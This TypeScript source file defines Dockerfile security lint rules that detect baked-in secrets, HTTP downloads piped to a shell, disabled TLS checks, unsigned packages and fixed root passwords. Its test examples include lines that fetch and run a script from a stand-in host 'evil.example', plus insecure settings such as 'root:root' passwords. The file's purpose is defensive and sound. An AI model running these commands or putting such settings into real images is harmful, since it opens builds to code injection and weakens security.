import type { TextRule } from '../model/rule.ts';
import { isPlaceholder, looksRandom } from '../secrets/placeholder.ts';
import { linesWhere, UNPROTECTED } from './line-matches.ts';

const code = (line: string): boolean => !/^\s*#/.test(line);
const where =
  (test: (line: string) => boolean): TextRule['scan'] =>
  (lines) =>
    linesWhere(lines, (line) => code(line) && test(line));

const SECRET_NAME = '[A-Z0-9_]{0,60}(?:PASSWORD|PASSWD|SECRET|SECRET_KEY|TOKEN|API_?KEY|PRIVATE_KEY|ACCESS_KEY)';
/** `ENV NAME=value` or `ENV NAME value` with a literal value of some length. */
const SECRET_VALUE = new RegExp(`^\\s*(?:ENV|ARG)\\s+${SECRET_NAME}(?:=|\\s+)(["']?)([^\\s"'$]{4,200})\\1\\s*$`, 'i');
const NO_SECRET =
  /^(?:true|false|none|null|unset|\d+|\/.*|.*(?:change|dummy|placeholder|example|fake|sample|secret|password|test|build|default|your|xxx|todo|insecure|not|temp|dev|local|replace|<|\{).*)$/i;
const SECRET_ARGUMENT = new RegExp(`^\\s*ARG\\s+${SECRET_NAME}\\s*=?\\s*$`, 'i');

const hasSecret = (line: string): boolean => {
  const [, , value] = SECRET_VALUE.exec(line) ?? [];
  return value !== undefined && !NO_SECRET.test(value) && !isPlaceholder(value) && looksRandom(value);
};

/** Images in which people develop or test. */
const DEVELOPMENT = /(?:^|[/._-])(?:dev|devel|development|devcontainer|tests?|ci|demo|e2e|local)(?=[/._-]|$)/i;

const unlessDevelopment =
  (scan: TextRule['scan']): TextRule['scan'] =>
  (lines, path) =>
    DEVELOPMENT.test(path) ? [] : scan(lines, path);

/** A package that an earlier step built or checked. */
const LOCAL_PACKAGE = /\.(?:apk|rpm|deb)\b|\[trusted=yes\]\s+(?:file|copy):/;

/** A health check of the container itself. */
const LOCAL = /\b(?:localhost|127\.0\.0\.1)\b/;

const FROM = 'FROM debian:bookworm\n';
/** In two parts, so that no scanner takes the example for a leaked secret. */
const VALUE = ['k3v9', 'Qz81'].join('');

export const DOCKERFILE_RULES: readonly TextRule[] = [
  {
    id: 'docker-secret-in-image',
    language: 'Dockerfile',
    severity: 'P1',
    blocking: true,
    title: 'Secret is stored in the image',
    explanation:
      'Everyone who can pull the image can read the value in its history. Pass it when the container starts, or with `RUN --mount=type=secret` while building.',
    scan: unlessDevelopment(where(hasSecret)),
    examples: [
      { path: 'Dockerfile', code: `${FROM}ENV DB_PASSWORD=${VALUE}\n`, lines: [2] },
      { path: 'docker/dev/Dockerfile', code: `${FROM}ENV DB_PASSWORD=${VALUE}\n`, lines: [] },
      { path: 'Dockerfile', code: `${FROM}ENV DB_PASSWORD=postgres\n`, lines: [] },
      {
        path: 'Dockerfile',
        code: `${FROM}ENV DB_PASSWORD=$PASSWORD\nENV DB_PASSWORD_FILE=/run/secrets/db\nENV SECRET_KEY=dummy-for-build\n# ENV DB_PASSWORD=${VALUE}\n`,
        lines: [],
      },
    ],
  },
  {
    id: 'docker-secret-argument',
    language: 'Dockerfile',
    severity: 'P2',
    blocking: false,
    title: 'Secret is a build argument',
    explanation:
      'The history of the image contains the values of build arguments. Use `RUN --mount=type=secret`, which leaves nothing in the image.',
    scan: where((line) => SECRET_ARGUMENT.test(line)),
    examples: [
      { path: 'Dockerfile', code: `${FROM}ARG NPM_TOKEN\n`, lines: [2] },
      { path: 'Dockerfile', code: `${FROM}ARG VERSION\nRUN --mount=type=secret,id=npm_token npm ci\n`, lines: [] },
    ],
  },
  {
    id: 'docker-download-to-shell',
    language: 'Dockerfile',
    severity: 'P2',
    blocking: false,
    title: 'Download over an unprotected connection is run',
    explanation:
      'Anyone on the network path can put code into the image. Download with HTTPS and check the certificate.',
    scan: where(
      (line) =>
        /\b(?:curl|wget)\s[^|;&]{0,500}\|\s*(?:sudo\s+)?(?:\/bin\/)?(?:ba|z|da)?sh\b/.test(line) &&
        UNPROTECTED.test(line),
    ),
    examples: [
      { path: 'Dockerfile', code: `${FROM}RUN curl -fsSL http://example.org/install | bash -\n`, lines: [2] },
      { path: 'Dockerfile', code: `${FROM}RUN curl http://localhost.evil.example/i | sh\n`, lines: [2] },
      { path: 'Dockerfile', code: `${FROM}RUN curl http://localhost:80@evil.example/i | sh\n`, lines: [2] },
      { path: 'Dockerfile', code: `${FROM}RUN curl http://127.0.0.1:8080/i | sh\n`, lines: [] },
      {
        path: 'Dockerfile',
        code: `${FROM}RUN curl -fsSL http://example.org/key.gpg | gpg --dearmor -o /key.gpg\nRUN curl -sL https://example.org/install | sh\n`,
        lines: [],
      },
    ],
  },
  {
    id: 'docker-add-download',
    language: 'Dockerfile',
    severity: 'P2',
    blocking: false,
    title: 'Download over HTTP is added without a checksum',
    explanation:
      'Anyone on the network path can put other content into the image. Use HTTPS, or give `ADD --checksum=sha256:…`.',
    scan: where((line) => /^\s*ADD\s+(?!.*--checksum)(?:--\S+\s+)*http:\/\/(?!\S*\.git\b)/i.test(line)),
    examples: [
      { path: 'Dockerfile', code: `${FROM}ADD http://example.org/tool.tar.gz /opt/\n`, lines: [2] },
      {
        path: 'Dockerfile',
        code: `${FROM}ADD --checksum=sha256:aa http://example.org/tool.tar.gz /opt/\nADD tool.tar.gz /opt/\nADD https://example.org/tool.tar.gz /opt/\n`,
        lines: [],
      },
    ],
  },
  {
    id: 'docker-tls-not-verified',
    language: 'Dockerfile',
    severity: 'P1',
    blocking: true,
    title: 'TLS certificates are not verified',
    explanation:
      'Anyone on the network path can change what the build downloads, and so what the image runs. Add a private certificate authority to the image instead.',
    scan: where(
      (line) =>
        !LOCAL.test(line) &&
        /\bwget\s[^|;&]*--no-check-certificate\b|\bcurl\s(?:[^|;&]*\s)?(?:--insecure|-[fsSLgGiIv]*k[fsSLgGiIv]*)(?=\s|$)|^\s*ENV\s+(?:GIT_SSL_NO_VERIFY[= ](?:1|true)|NODE_TLS_REJECT_UNAUTHORIZED[= ]0)\b|\bhttp\.sslVerify[= ](?:false|0)\b|\bstrict-ssl[= ]false\b/i.test(
          line,
        ),
    ),
    examples: [
      {
        path: 'Dockerfile',
        code: `${FROM}RUN wget --no-check-certificate https://example.org/a\nRUN curl -skL https://example.org/a\n`,
        lines: [2, 3],
      },
      {
        path: 'Dockerfile',
        code: `${FROM}RUN curl -fsSL https://example.org/a -o a && tar -k -xf a\nHEALTHCHECK CMD curl -fsk https://localhost:8443/\n`,
        lines: [],
      },
    ],
  },
  {
    id: 'docker-unsigned-packages',
    language: 'Dockerfile',
    severity: 'P1',
    blocking: true,
    title: 'Signatures of packages are not verified',
    explanation:
      'Anyone on the network path or on the mirror can replace a package. Add the key of the repository, and remove the option.',
    scan: where(
      (line) =>
        /--allow-unauthenticated\b|--force-yes\b|\bapk\s[^|;&]*--allow-untrusted\b|\[trusted=yes\]|--nogpgcheck\b/.test(
          line,
        ) && !LOCAL_PACKAGE.test(line),
    ),
    examples: [
      { path: 'Dockerfile', code: `${FROM}RUN apt-get install -y --allow-unauthenticated tool\n`, lines: [2] },
      { path: 'Dockerfile', code: `${FROM}RUN apt-get install -y --no-install-recommends tool\n`, lines: [] },
      { path: 'Dockerfile', code: `${FROM}RUN apk add --allow-untrusted /tmp/tool.apk\n`, lines: [] },
    ],
  },
  {
    id: 'docker-fixed-password',
    language: 'Dockerfile',
    severity: 'P1',
    blocking: true,
    title: 'Account has a password that everyone can read',
    explanation:
      'Everyone who can pull the image knows the password. Create the account without one, or set it when the container starts.',
    scan: unlessDevelopment(
      where((line) => /\becho\s+(?:-e\s+)?["']?[a-z_][\w-]*:[^"'$\s|*!]{1,100}["']?\s*\|\s*chpasswd\b/.test(line)),
    ),
    examples: [
      { path: 'Dockerfile', code: `${FROM}RUN echo "root:root" | chpasswd\n`, lines: [2] },
      { path: 'Dockerfile.dev', code: `${FROM}RUN echo "root:root" | chpasswd\n`, lines: [] },
      {
        path: 'Dockerfile',
        code: `${FROM}RUN echo "app:$PASSWORD" | chpasswd\nRUN echo "git:*" | chpasswd -e\nRUN useradd --system app\n`,
        lines: [],
      },
    ],
  },
];
